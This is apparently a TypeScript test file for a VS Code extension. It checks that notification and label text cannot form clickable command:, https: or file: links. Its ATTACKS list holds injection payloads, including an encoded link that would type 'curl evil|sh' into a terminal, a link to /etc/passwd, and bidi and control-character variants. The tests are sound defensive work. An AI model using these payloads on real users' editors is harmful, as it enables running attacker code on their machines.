// Notifications render `[label](command:…)` as a link whose click runs the command
// (VS Code's vs/base/common/linkedText.ts, parseLinkedText, used by the notification list).
// Box and platform text must never keep that shape, whatever it is combined with.
import { strict as assert } from 'node:assert';
import fc from 'fast-check';
import { forLabel, forNotification, NOTIFICATION_MAX_CHARS } from '../../src/core/text';

// VS Code's own pattern, copied from vs/base/common/linkedText.ts (MIT; the same in 1.85 and in
// the code-server build the e2e tier runs): what a notification message turns into links.
const VSCODE_LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/gi;
const links = (s: string) => [...s.matchAll(VSCODE_LINK)];

const ATTACKS = [
  '[Free up disk space](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)',
  'ckpt-[x](command:workbench.action.terminal.new).pt',
  '[a]( command:x)',
  '[open](https://evil.example/x "title")',
  '[f](file:///etc/passwd)',
  '[A](COMMAND:workbench.action.terminal.sendSequence?x)',
  '<https://evil.example>',
  '[multi\nline](command:x)',
  '[tab]\t(command:x)',
  '[bidi\u202e](command:x)',
  '[c1\u009b](command:x)',
];

describe('notification text (core/text forNotification)', () => {
  it('the attacks are links as a box sends them (the test can fail)', () => {
    assert.equal(links(ATTACKS[0]!)[0]?.[2]?.startsWith('command:workbench.action.terminal.sendSequence'), true);
    assert.equal(links(ATTACKS[5]!).length, 1);
  });

  for (const a of ATTACKS) {
    it(`leaves no link in ${JSON.stringify(a).slice(0, 60)}`, () => {
      const out = forNotification(`Sync failed: disk full writing ${a}.`).text;
      assert.deepEqual(links(out), []);
      assert.ok(!/[\x00-\x1f\x7f-\x9f\u202a-\u202e]/.test(out), out);
    });
  }

  it('no concatenation of rendered pieces and template text forms a link (property)', () => {
    const piece = fc.string({ unit: fc.constantFrom('[', ']', '(', ')', ' ', '\n', 'command:', 'https://', 'file:', 'a', '"', "'", '\u009b', '\\', '<', '>') , maxLength: 40 });
    fc.assert(
      fc.property(piece, piece, piece, (a, b, c) => {
        assert.deepEqual(links(forNotification(a + b + c).text), []);
        assert.deepEqual(links(forNotification(a + b + c, { keepNewlines: true }).text), []);
      }),
      { numRuns: 3000 },
    );
  });

  it('keeps ordinary text (CJK, paths, brackets without links) readable', () => {
    assert.equal(forNotification('同步失败: /root/autodl-tmp/ckpt [step 100] (3.2 GB)').text, '同步失败: /root/autodl-tmp/ckpt [step 100] (3.2 GB)');
    assert.equal(forNotification('a\n\n  b\tc').text, 'a b c');
    assert.equal(forNotification('line 1\nline 2', { keepNewlines: true }).text, 'line 1\nline 2');
  });

  it('cuts long text to the toast limit and says it was cut; huge input is bounded before any pass', () => {
    const r = forNotification('x'.repeat(10_000));
    assert.equal(r.cut, true);
    assert.ok(r.text.length <= NOTIFICATION_MAX_CHARS, String(r.text.length));
    assert.ok(r.text.endsWith('…'));
    // Bounded before any pass: 112 MB costs about what 112 KB costs (a pass over the whole text
    // would cost ~1000× more). Best of 3 in this process's CPU time, so a loaded machine does not count.
    const cpuMs = (text: string) => {
      let best = Infinity;
      for (let k = 0; k < 3; k++) {
        const c0 = process.cpuUsage();
        forNotification(text);
        const c = process.cpuUsage(c0);
        best = Math.min(best, (c.user + c.system) / 1000);
      }
      return best;
    };
    const hugeText = '[a](command:x)'.repeat(8_000_000);
    const smallMs = cpuMs('[a](command:x)'.repeat(8_000));
    const hugeMs = cpuMs(hugeText);
    assert.ok(hugeMs < Math.max(50, smallMs * 20), `112 MB: ${hugeMs.toFixed(1)} ms CPU, 112 KB: ${smallMs.toFixed(1)} ms`);
    const big = forNotification(hugeText);
    assert.equal(big.cut, true);
    assert.deepEqual(links(big.text), []);
    assert.equal(forNotification('short').cut, false);
  });

  it('never cuts an escape or a surrogate pair in half', () => {
    const s = forNotification('y'.repeat(NOTIFICATION_MAX_CHARS - 3) + '\x1b[2J' + '😀'.repeat(50)).text;
    assert.ok(!/\\x?1?$/.test(s.slice(0, -1)), s.slice(-12));
    const e = forNotification('y'.repeat(NOTIFICATION_MAX_CHARS - 2) + '😀😀😀').text;
    assert.ok(!/[\ud800-\udbff]$/.test(e.slice(0, -1)));
  });
});

describe('labels (core/text forLabel: tree rows, quick picks)', () => {
  it('one line, controls shown, no $(icon), bounded', () => {
    const l = forLabel('job\n$(check) done\u202e\u009b31m' + 'z'.repeat(1000));
    assert.ok(!l.includes('\n') && !/[\u202e\u009b]/.test(l));
    assert.ok(!/\$\(/.test(l));
    assert.ok(l.includes('$\u200b(check)'));
    assert.ok(l.length <= 200 && l.endsWith('…'));
    assert.equal(forLabel('RTX 4090 · 训练'), 'RTX 4090 · 训练');
  });
});
